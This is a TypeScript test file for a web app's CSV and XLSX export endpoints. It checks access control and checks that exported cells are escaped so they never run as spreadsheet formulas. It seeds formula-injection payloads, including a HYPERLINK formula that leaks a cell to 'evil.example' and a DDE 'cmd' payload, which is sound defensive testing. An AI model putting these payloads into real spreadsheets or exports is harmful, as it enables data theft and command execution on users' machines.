import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyPlan } from '../src/app/apply-plan.ts';
import { pinnedClock } from '../src/app/clock.ts';
import type { AppContext } from '../src/app/context.ts';
import { DEMO_AS_OF, DEMO_FILES, loadDemo } from '../src/app/load-demo.ts';
import { replayDemoPayload } from '../src/app/replay-demo.ts';
import { readPlanFile } from '../src/plan-file/index.ts';
import { buildServer } from '../src/server/server.ts';
import type { Database } from '../src/store/database.ts';
import { createApiToken } from '../src/store/token-store.ts';
import { openTestDatabase, TEST_DATABASES } from './support/databases.ts';
import { rawGet } from './support/raw-http.ts';

/** Text a spreadsheet would run as a formula, put into the plan's names. */
const HOSTILE = {
  erp: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  proc: '+1+1',
  priya: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  minus: '-2+3',
};

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * CSV and XLSX exports of signals and initiatives: what the caller may see only (the access
 * policy's visibility: the confidential I-DIVEST is in the executives' export, not in Sam's), and
 * no cell that a spreadsheet would read as a formula, read back with csv-parse and exceljs.
 */
describe.each(TEST_DATABASES)('exports ($name)', (kind) => {
  let db: Database;
  let app: FastifyInstance;
  let base: string;
  let port: number;
  let dana: string;
  let sam: string;

  beforeAll(async () => {
    db = await openTestDatabase(kind);
    const ctx: AppContext = { db, clock: pinnedClock(DEMO_AS_OF) };
    await loadDemo(ctx, undefined);
    const { plan } = await readPlanFile(DEMO_FILES.plan);
    const rename =
      (id: string, name: string) =>
      <T extends { id: string; name: string }>(i: T): T =>
        i.id === id ? { ...i, name } : i;
    await applyPlan(
      ctx,
      {
        ...plan,
        initiatives: plan.initiatives
          .map(rename('I-ERP', HOSTILE.erp))
          .map(rename('I-PROC', HOSTILE.proc))
          .map((i, n) => (n === 2 ? { ...i, name: HOSTILE.tab } : i))
          .map((i, n) => (n === 3 ? { ...i, name: HOSTILE.minus } : i)),
        people: plan.people.map(rename('priya', HOSTILE.priya)),
      },
      { actor: 'test' },
    );
    await replayDemoPayload(ctx, 'erp-17-due-date-moved');
    dana = await createApiToken(db, 'dana', 'export test', new Date(), undefined, 'read');
    sam = await createApiToken(db, 'sam', 'export test', new Date(), undefined, 'read');
    app = await buildServer(ctx);
    base = await app.listen({ port: 0, host: '127.0.0.1' });
    port = Number(new URL(base).port);
  });
  afterAll(async () => {
    await app?.close();
    await db?.close();
  });

  async function download(path: string, token: string): Promise<Response> {
    return fetch(`${base}${path}`, { headers: { authorization: `Bearer ${token}` } });
  }

  async function csv(path: string, token: string): Promise<string[][]> {
    const answer = await download(path, token);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="/);
    const text = await answer.text();
    const rows: unknown = parse(text, { bom: true });
    return rows as string[][];
  }

  async function xlsx(path: string, token: string): Promise<ExcelJS.Worksheet> {
    const answer = await download(path, token);
    expect(answer.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await answer.arrayBuffer());
    const sheet = workbook.worksheets[0];
    if (sheet === undefined) throw new Error('no sheet');
    return sheet;
  }

  it('exports initiatives with status and money, no cell starting a formula (CSV)', async () => {
    const rows = await csv('/api/v1/exports/initiatives.csv', dana);
    const [header, ...body] = rows;
    expect(header).toContain('Budget planned');
    const erp = body.find((r) => r[0] === 'I-ERP');
    expect(erp?.[1]).toBe(`'${HOSTILE.erp}`);
    expect(erp?.[2]).toBe(`'${HOSTILE.priya}`);
    expect(erp?.[4]).toMatch(/^(on_track|at_risk|off_track)$/);
    expect(Number(erp?.[9])).toBe(1_300_000);
    expect(body.find((r) => r[0] === 'I-PROC')?.[1]).toBe(`'${HOSTILE.proc}`);
    const names = body.map((r) => r[1] ?? '');
    for (const hostile of [HOSTILE.tab, HOSTILE.minus]) expect(names).toContain(`'${hostile}`);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(FORMULA_START);
  });

  it('exports the same as XLSX: text cells, never a formula, money as numbers', async () => {
    const sheet = await xlsx('/api/v1/exports/initiatives.xlsx', dana);
    const values: unknown[][] = [];
    sheet.eachRow((row) => {
      const cells: unknown[] = [];
      row.eachCell({ includeEmpty: true }, (cell) => {
        expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(cell.value);
      });
      values.push(cells);
    });
    const erp = values.find((r) => r[0] === 'I-ERP');
    expect(erp?.[1]).toBe(`'${HOSTILE.erp}`);
    expect(erp?.[9]).toBe(1_300_000);
    for (const cell of values.flat()) {
      if (typeof cell === 'string') expect(cell).not.toMatch(FORMULA_START);
    }
  });

  it('exports signals with status and the money of their incident', async () => {
    const rows = await csv('/api/v1/exports/signals.csv', dana);
    const [header, ...body] = rows;
    expect(header?.slice(0, 3)).toEqual(['Signal', 'Kind', 'Status']);
    expect(body.length).toBeGreaterThan(0);
    const withMoney = body.filter((r) => r[9] !== '' && Number(r[9]) > 0);
    expect(withMoney.length).toBeGreaterThan(0);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    const sheet = await xlsx('/api/v1/exports/signals.xlsx', dana);
    expect(sheet.rowCount).toBe(rows.length);
  });

  it('exports only what the caller may see: I-DIVEST for Dana, not for Sam', async () => {
    const danas = (await csv('/api/v1/exports/initiatives.csv', dana)).map((r) => r[0]);
    const sams = (await csv('/api/v1/exports/initiatives.csv', sam)).map((r) => r[0]);
    expect(danas).toContain('I-DIVEST');
    expect(sams).not.toContain('I-DIVEST');
    expect(sams.length).toBeLessThan(danas.length);
    const samSheet = await xlsx('/api/v1/exports/initiatives.xlsx', sam);
    const samIds: unknown[] = [];
    samSheet.eachRow((row) => samIds.push(row.getCell(1).value));
    expect(samIds).not.toContain('I-DIVEST');
    const samSignals = (await csv('/api/v1/exports/signals.csv', sam)).flat().join(' ');
    expect(samSignals).not.toContain('I-DIVEST');
  });

  it('refuses without a token, with a bad one, and however the path is spelled', async () => {
    expect((await fetch(`${base}/api/v1/exports/signals.csv`)).status).toBe(401);
    expect((await download('/api/v1/exports/signals.csv', 'tl_0000000000_nope')).status).toBe(401);
    for (const path of [
      '/%61pi/v1/exports/signals.csv',
      '/api/v1/exports/%73ignals.xlsx',
      '/api/v1/exports/signals.csv%00',
      '/api/v1/exports/signals.exe',
      `/api/v1/exports/${'s'.repeat(5000)}.csv`,
    ]) {
      const answer = await rawGet(port, path);
      expect([401, 404], path).toContain(answer.status);
    }
    // The same export twice: the same file.
    const first = await (await download('/api/v1/exports/initiatives.csv', dana)).text();
    const second = await (await download('/api/v1/exports/initiatives.csv', dana)).text();
    expect(second).toBe(first);
  });
});
